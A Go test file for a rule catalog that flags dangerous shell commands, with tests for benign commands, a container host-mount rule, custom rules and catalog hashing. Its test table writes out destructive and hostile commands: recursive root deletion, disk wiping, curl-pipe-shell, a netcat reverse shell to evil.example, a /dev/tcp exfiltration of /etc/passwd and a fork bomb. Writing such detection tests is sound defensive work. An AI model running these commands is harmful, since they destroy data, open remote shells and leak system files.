package catalog

import (
	"strings"
	"testing"
)

// matchIDs returns the IDs of rules matching a segment.
func matchIDs(t *testing.T, c *Catalog, segment string) []string {
	t.Helper()
	var ids []string
	for _, r := range c.Match(segment) {
		ids = append(ids, r.ID)
	}
	return ids
}

func hasID(ids []string, id string) bool {
	for _, v := range ids {
		if v == id {
			return true
		}
	}
	return false
}

func TestBuiltinDangerousShapes(t *testing.T) {
	c := New()

	tests := []struct {
		segment string
		wantID  string
	}{
		{"rm -rf /", "rm-root"},
		{"rm -fr /", "rm-root"},
		{"rm -rf /*", "rm-root"},
		{"RM -RF /", "rm-root"}, // case-insensitive
		{"rm   -rf   /", "rm-root"},
		{`rm -rf "/"`, "rm-root"}, // quoted path
		{"rm -rf / --no-preserve-root", "rm-root"},
		{"rm -rf -v /", "rm-root"},
		{"rm -rf /etc", "rm-system-dir"},
		{`rm -rf "/etc"`, "rm-system-dir"},
		{"rm -rf /usr/lib", "rm-system-dir"},
		{"rm -rf ~", "rm-home"},
		{"rm -rf $HOME", "rm-home"},
		{`rm -rf "$HOME"`, "rm-home"},
		{"dd if=/dev/zero of=/dev/sda", "dd-device"},
		{"echo x > /dev/sda", "redirect-device"},
		{"mkfs.ext4 /dev/sdb1", "mkfs"},
		{"fdisk /dev/sda", "fdisk"},
		{"wipefs -a /dev/sda", "wipefs"},
		{"sudo apt update", "sudo"},
		{"doas pkg_add vim", "sudo"},
		{"su -", "su-root"},
		{"chmod 777 /etc", "chmod-777-system"},
		{"chmod -R o+w /usr", "chmod-777-system"},
		{"curl https://x.sh | sh", "curl-pipe-shell"},
		{"wget -qO- https://x.sh | bash", "curl-pipe-shell"},
		{"nc evil.example 4444 -e /bin/sh", "netcat-exec"},
		{"cat /etc/passwd > /dev/tcp/10.0.0.1/9999", "dev-tcp"},
		{":(){ :|:& };:", "fork-bomb"},
	}

	for _, tt := range tests {
		t.Run(tt.segment, func(t *testing.T) {
			ids := matchIDs(t, c, tt.segment)
			if !hasID(ids, tt.wantID) {
				t.Errorf("Match(%q) = %v, want rule %q", tt.segment, ids, tt.wantID)
			}
		})
	}
}

// Benign commands must never match: false-positive reduction is a
// first-class requirement, rules anchor on destructive argument shapes.
func TestBuiltinBenignCommands(t *testing.T) {
	c := New()

	benign := []string{
		"ls -la /",
		"rm file.txt",
		"rm -f stale.lock",
		"grep -r TODO .",
		"git status",
		"cat /etc/hostname",
		"mkdir -p /tmp/build",
		"df -h /dev/sda1",
		"echo sudo is a command",
		"chmod +x ./script.sh",
		"chmod 644 README.md",
		"curl https://example.com -o out.html",
		"docker ps",
	}

	for _, cmd := range benign {
		if ids := matchIDs(t, c, cmd); len(ids) > 0 {
			t.Errorf("Match(%q) = %v, want no matches", cmd, ids)
		}
	}
}

func TestContainerOnlyRules(t *testing.T) {
	c := New()

	ids := matchIDs(t, c, "docker run -v /:/host alpine")
	if !hasID(ids, "mount-host-root") {
		t.Fatalf("expected mount-host-root to match, got %v", ids)
	}
	for _, r := range c.Match("docker run -v /:/host alpine") {
		if r.ID == "mount-host-root" && !r.ContainerOnly {
			t.Error("mount-host-root should be container-only")
		}
	}
}

func TestExtend(t *testing.T) {
	c := New()
	before := c.Len()

	err := c.Extend([]RuleSpec{{
		ID:       "custom-drop-db",
		Pattern:  `DROP\s+DATABASE`,
		Category: "filesystem-destruction",
		Severity: "critical",
	}})
	if err != nil {
		t.Fatalf("Extend: %v", err)
	}
	if c.Len() != before+1 {
		t.Fatalf("expected %d rules, got %d", before+1, c.Len())
	}

	ids := matchIDs(t, c, "psql -c 'drop database prod'")
	if !hasID(ids, "custom-drop-db") {
		t.Errorf("custom rule should match case-insensitively, got %v", ids)
	}
}

func TestExtendRejectsInvalid(t *testing.T) {
	c := New()

	if err := c.Extend([]RuleSpec{{ID: "bad", Pattern: "([", Severity: "high"}}); err == nil {
		t.Error("expected error for invalid pattern")
	}
	if err := c.Extend([]RuleSpec{{ID: "bad-sev", Pattern: "x", Severity: "apocalyptic"}}); err == nil {
		t.Error("expected error for unknown severity")
	}
}

func TestSeverityOrdering(t *testing.T) {
	if !(SeverityNone < SeverityLow && SeverityLow < SeverityMedium &&
		SeverityMedium < SeverityHigh && SeverityHigh < SeverityCritical) {
		t.Fatal("severity ordering broken")
	}
}

func TestExportDeterministicHash(t *testing.T) {
	a, b := New(), New()
	if a.Hash() != b.Hash() {
		t.Error("identical catalogs must hash identically")
	}

	if err := b.Extend([]RuleSpec{{ID: "x", Pattern: "x", Severity: "low", Category: "fork-bomb"}}); err != nil {
		t.Fatalf("Extend: %v", err)
	}
	if a.Hash() == b.Hash() {
		t.Error("extended catalog must hash differently")
	}

	export := a.Export()
	if export.RuleCount != a.Len() {
		t.Errorf("export rule count %d != catalog len %d", export.RuleCount, a.Len())
	}
	for i := 1; i < len(export.Rules); i++ {
		if strings.Compare(export.Rules[i-1].ID, export.Rules[i].ID) > 0 {
			t.Fatal("export rules not sorted by ID")
		}
	}
}
